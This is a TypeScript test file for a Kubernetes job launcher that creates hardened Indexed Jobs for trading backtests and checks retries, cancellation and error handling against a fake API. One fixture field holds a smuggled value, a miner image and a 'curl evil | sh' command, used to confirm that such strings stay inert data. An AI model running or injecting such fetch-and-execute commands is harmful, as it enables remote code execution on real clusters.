import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import type { BacktestRequest } from "../../events/index.ts";
import type { Logger } from "../log.ts";
import type { ShardSpec } from "../ports.ts";
import { buildJobSpec, JOB_ENV_NAMES, type JobSpecOptions } from "./job-spec.ts";
import { KubeApiError, KubernetesJobLauncher } from "./kubernetes-job-launcher.ts";
import { FakeKubeApi, propagationPolicyOf } from "./test-support/fake-kube-api.ts";

const SILENT: Logger = {
  debug: () => undefined,
  info: () => undefined,
  warn: () => undefined,
  error: () => undefined,
  child: () => SILENT,
};

const REQUEST: BacktestRequest = {
  strategy: "sma-crossover",
  params: { fast: { from: 5, to: 20, step: 5 }, slow: [30, 50] },
  data: { url: "https://data.example.com/btc.csv" },
  sort: "sharpeRatio",
  size: "medium",
  label: "image: evil/miner; command: [sh, -c, 'curl evil | sh']",
};
const OPTIONS: JobSpecOptions = {
  image: "zixly/backtest-job:1.2.3",
  namespace: "pipelines",
  parallelism: 3,
  backoffLimitPerIndex: 2,
  deadlineSeconds: 900,
  ttlSecondsAfterFinished: 7200,
  sinkUrl: "http://broker-ingress.knative-eventing.svc.cluster.local/pipelines/default",
  jobWorkers: 2,
  dataDir: "data",
  fetchMaxBytes: 50 * 1024 * 1024,
  fetchTimeoutMs: 30_000,
};
const TRACEPARENT = "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01";
let counter = 0;
/** A fresh run id per test, so that Jobs never collide across tests. */
const nextRunId = () => {
  const base32 = "abcdefghijklmnopqrstuvwxyz234567";
  const digits = [...(counter++).toString(32)].map((d) => base32[Number.parseInt(d, 32)]);
  return `run_${digits.join("").padStart(26, "a")}`;
};
const shards = (runId: string, count: number): ShardSpec[] =>
  Array.from({ length: count }, (_, shardIndex) => ({
    runId,
    shardIndex,
    shardCount: count,
    request: REQUEST,
    traceparent: TRACEPARENT,
  }));

let api: FakeKubeApi;
beforeAll(async () => {
  api = await FakeKubeApi.start();
});
afterAll(() => api?.close());
beforeEach(() => {
  api.requests.length = 0;
});

function launcher(options: Partial<JobSpecOptions> & { requestTimeoutMs?: number } = {}) {
  return new KubernetesJobLauncher(api.kubeConfig(), { ...OPTIONS, log: SILENT, ...options });
}
const jobsPath = `/apis/batch/v1/namespaces/${OPTIONS.namespace}/jobs`;

describe("KubernetesJobLauncher.launch", () => {
  it("creates one Indexed Job whose every field is the spec builder's", async () => {
    const runId = nextRunId();
    await launcher().launch(runId, shards(runId, 7));

    expect(api.requests.map((r) => [r.method, r.path])).toEqual([["POST", jobsPath]]);
    expect(api.requests[0].headers.authorization).toBe("Bearer test");
    const sent = api.requests[0].body;
    // What went over the wire is exactly the pure builder's object: the client dropped nothing.
    expect(sent).toStrictEqual(
      JSON.parse(JSON.stringify(buildJobSpec(runId, shards(runId, 7), OPTIONS))),
    );
  });

  it("sends the Job that the contract asks for, field by field", async () => {
    const runId = nextRunId();
    await launcher().launch(runId, shards(runId, 7));
    const job = api.job(OPTIONS.namespace, `bt-${runId.slice(4)}`) as unknown as ReturnType<
      typeof buildJobSpec
    >;
    expect(job).toBeDefined();
    const spec = job.spec!;
    const pod = spec.template.spec!;
    const [container] = pod.containers;
    const labels = {
      "app.kubernetes.io/name": "backtest-job",
      "app.kubernetes.io/part-of": "zixly-pipelines",
      "app.kubernetes.io/managed-by": "zixly-dispatch",
      "app.kubernetes.io/component": "backtest",
      "zixly.com/run-id": runId,
    };
    expect(job.metadata!.labels).toEqual(labels);
    expect(spec.template.metadata!.labels).toEqual(labels);
    expect(spec).toMatchObject({
      completionMode: "Indexed",
      completions: 7,
      parallelism: 3,
      backoffLimitPerIndex: 2,
      maxFailedIndexes: 0,
      activeDeadlineSeconds: 900 * 3,
      ttlSecondsAfterFinished: 7200,
    });
    expect(spec).not.toHaveProperty("backoffLimit");
    expect(spec).not.toHaveProperty("suspend");
    expect(spec.podFailurePolicy!.rules).toEqual([
      { action: "Ignore", onPodConditions: [{ type: "DisruptionTarget", status: "True" }] },
      {
        action: "FailIndex",
        onExitCodes: { containerName: "backtest", operator: "In", values: [2] },
      },
    ]);
    expect(pod).toMatchObject({
      restartPolicy: "Never",
      automountServiceAccountToken: false,
      enableServiceLinks: false,
      securityContext: {
        runAsNonRoot: true,
        runAsUser: 10001,
        runAsGroup: 10001,
        fsGroup: 10001,
        seccompProfile: { type: "RuntimeDefault" },
      },
      volumes: [{ name: "tmp", emptyDir: { sizeLimit: "256Mi" } }],
    });
    expect(pod.containers).toHaveLength(1);
    expect(container.image).toBe("zixly/backtest-job:1.2.3");
    expect(container).not.toHaveProperty("command");
    expect(container).not.toHaveProperty("args");
    expect(container.securityContext).toEqual({
      allowPrivilegeEscalation: false,
      readOnlyRootFilesystem: true,
      runAsNonRoot: true,
      capabilities: { drop: ["ALL"] },
    });
    expect(container.volumeMounts).toEqual([{ name: "tmp", mountPath: "/tmp" }]);
    expect(container.resources).toEqual({
      requests: { cpu: "1", memory: "1Gi", "ephemeral-storage": "64Mi" },
      limits: { cpu: "2", memory: "2Gi", "ephemeral-storage": "512Mi" },
    });

    const env = Object.fromEntries(container.env!.map((e) => [e.name, e.value]));
    expect(Object.keys(env)).toEqual([...JOB_ENV_NAMES]);
    expect(env).toEqual({
      RUN_ID: runId,
      SHARD_COUNT: "7",
      K_SINK: OPTIONS.sinkUrl,
      REQUEST: JSON.stringify(REQUEST),
      TRACEPARENT,
      DATA_DIR: "data",
      JOB_WORKERS: "2",
      FETCH_MAX_BYTES: String(50 * 1024 * 1024),
      FETCH_TIMEOUT_MS: "30000",
      ALLOW_INSECURE_URLS: "false",
    });
    // The request round-trips, its look-alike strings included, as data only.
    expect(JSON.parse(env.REQUEST!)).toEqual(REQUEST);
  });

  it("sends a Job whose pods carry a projected broker token, when an audience is set", async () => {
    const runId = nextRunId();
    const audience = "eventing.knative.dev/broker/pipelines/default";
    await launcher({ sinkTokenAudience: audience, allowInsecureUrls: true }).launch(
      runId,
      shards(runId, 2),
    );
    const job = api.job(OPTIONS.namespace, `bt-${runId.slice(4)}`) as unknown as ReturnType<
      typeof buildJobSpec
    >;
    const pod = job.spec!.template.spec!;
    expect(pod.automountServiceAccountToken).toBe(false);
    expect(pod.volumes).toContainEqual({
      name: "broker-token",
      projected: {
        sources: [{ serviceAccountToken: { audience, expirationSeconds: 3600, path: "token" } }],
      },
    });
    expect(pod.containers[0].volumeMounts).toContainEqual({
      name: "broker-token",
      mountPath: "/var/run/secrets/zixly.com/broker",
      readOnly: true,
    });
    const env = Object.fromEntries(pod.containers[0].env!.map((e) => [e.name, e.value]));
    expect(env.K_SINK_TOKEN_FILE).toBe("/var/run/secrets/zixly.com/broker/token");
    expect(env.ALLOW_INSECURE_URLS).toBe("true");
    expect(env).not.toHaveProperty("BROKER_TOKEN");
  });

  it("treats 409 AlreadyExists as launched: a redelivery makes no second Job", async () => {
    const runId = nextRunId();
    const l = launcher();
    await l.launch(runId, shards(runId, 2));
    await expect(l.launch(runId, shards(runId, 2))).resolves.toBeUndefined();
    expect(api.requests.map((r) => r.method)).toEqual(["POST", "POST"]);
    const [first, second] = api.requests;
    expect(second.body).toEqual(first.body);
    const own = [...api.jobs.values()].filter(
      (j) => j.metadata.labels?.["zixly.com/run-id"] === runId,
    );
    expect(own).toHaveLength(1);
  });

  it("opts into Kueue: queue label and suspended; without a queue neither", async () => {
    const queued = nextRunId();
    await launcher({ kueueQueue: "backtests" }).launch(queued, shards(queued, 2));
    const plain = nextRunId();
    await launcher().launch(plain, shards(plain, 2));
    const [withQueue, without] = api.requests.map(
      (r) =>
        r.body as { metadata: { labels: Record<string, string> }; spec: { suspend?: boolean } },
    );
    expect(withQueue.metadata.labels["kueue.x-k8s.io/queue-name"]).toBe("backtests");
    expect(withQueue.spec.suspend).toBe(true);
    expect(without.metadata.labels).not.toHaveProperty("kueue.x-k8s.io/queue-name");
    expect(without.spec).not.toHaveProperty("suspend");
  });

  it("rejects when the API answers 500, so the event is redelivered", async () => {
    const runId = nextRunId();
    api.failNext(500, "InternalError");
    const error = await launcher()
      .launch(runId, shards(runId, 2))
      .catch((e: unknown) => e);
    expect(error).toBeInstanceOf(KubeApiError);
    expect(error).toMatchObject({ status: 500, reason: "InternalError" });
    expect((error as Error).message).toMatch(/HTTP 500: injected InternalError/);
    expect(api.job(OPTIONS.namespace, `bt-${runId.slice(4)}`)).toBeUndefined();
    // The redelivery then succeeds.
    await launcher().launch(runId, shards(runId, 2));
    expect(api.job(OPTIONS.namespace, `bt-${runId.slice(4)}`)).toBeDefined();
  });

  it.each([
    [403, "Forbidden"],
    [422, "Invalid"],
  ])("rejects on %i %s", async (status, reason) => {
    const runId = nextRunId();
    api.failNext(status, reason);
    await expect(launcher().launch(runId, shards(runId, 1))).rejects.toMatchObject({
      name: "KubeApiError",
      status,
      reason,
    });
  });

  it("rejects when the API does not answer in time", async () => {
    const runId = nextRunId();
    api.hangNext();
    const started = Date.now();
    await expect(
      launcher({ requestTimeoutMs: 200 }).launch(runId, shards(runId, 1)),
    ).rejects.toThrow(/no answer within 200 ms/);
    expect(Date.now() - started).toBeLessThan(5_000);
  });

  it("rejects when the API cannot be reached", async () => {
    const gone = await FakeKubeApi.start();
    const kc = gone.kubeConfig();
    await gone.close();
    const runId = nextRunId();
    const l = new KubernetesJobLauncher(kc, { ...OPTIONS, log: SILENT });
    await expect(l.launch(runId, shards(runId, 1))).rejects.toMatchObject({
      name: "KubeApiError",
      status: undefined,
    });
  });
});

describe("KubernetesJobLauncher.cancel", () => {
  it("gets the run's Job, then deletes it with Background propagation", async () => {
    const runId = nextRunId();
    const l = launcher();
    await l.launch(runId, shards(runId, 2));
    await l.cancel(runId);
    const [get, del] = api.requests.slice(1);
    expect([get.method, get.path]).toEqual(["GET", `${jobsPath}/bt-${runId.slice(4)}`]);
    expect([del.method, del.path]).toEqual(["DELETE", `${jobsPath}/bt-${runId.slice(4)}`]);
    expect(propagationPolicyOf(del)).toBe("Background");
    expect(api.job(OPTIONS.namespace, `bt-${runId.slice(4)}`)).toBeUndefined();
  });

  it("resolves without a DELETE when the Job is gone already", async () => {
    const runId = nextRunId();
    await expect(launcher().cancel(runId)).resolves.toBeUndefined();
    expect(api.requests.map((r) => r.method)).toEqual(["GET"]);
  });

  it("rejects on other errors", async () => {
    // The GET cannot tell (503), so the DELETE is tried, and its 503 is the answer.
    api.failNext(503, "ServiceUnavailable");
    api.failNext(503, "ServiceUnavailable");
    await expect(launcher().cancel(nextRunId())).rejects.toMatchObject({
      name: "KubeApiError",
      status: 503,
    });
  });
});

describe("KubernetesJobLauncher.exists", () => {
  it("is true for a created Job, false once it is gone, undefined when the API cannot say", async () => {
    const runId = nextRunId();
    const l = launcher();
    await l.launch(runId, shards(runId, 1));
    expect(await l.exists(runId)).toBe(true);
    await l.cancel(runId);
    expect(await l.exists(runId)).toBe(false);
    api.failNext(500, "InternalError");
    expect(await l.exists(runId)).toBeUndefined();
  });
});

describe("FakeKubeApi", () => {
  it("reads and lists Jobs by label like the API server", async () => {
    const runId = nextRunId();
    await launcher().launch(runId, shards(runId, 1));
    const name = `bt-${runId.slice(4)}`;
    const base = `${api.url}${jobsPath}`;
    const auth = { authorization: "Bearer test" };
    const one = await fetch(`${base}/${name}`, { headers: auth });
    expect(one.status).toBe(200);
    const list = (await (
      await fetch(`${base}?labelSelector=${encodeURIComponent(`zixly.com/run-id=${runId}`)}`, {
        headers: auth,
      })
    ).json()) as { items: unknown[] };
    expect(list.items).toHaveLength(1);
    const missing = await fetch(`${base}/bt-missing`, { headers: auth });
    expect([missing.status, ((await missing.json()) as { reason: string }).reason]).toEqual([
      404,
      "NotFound",
    ]);
  });
});
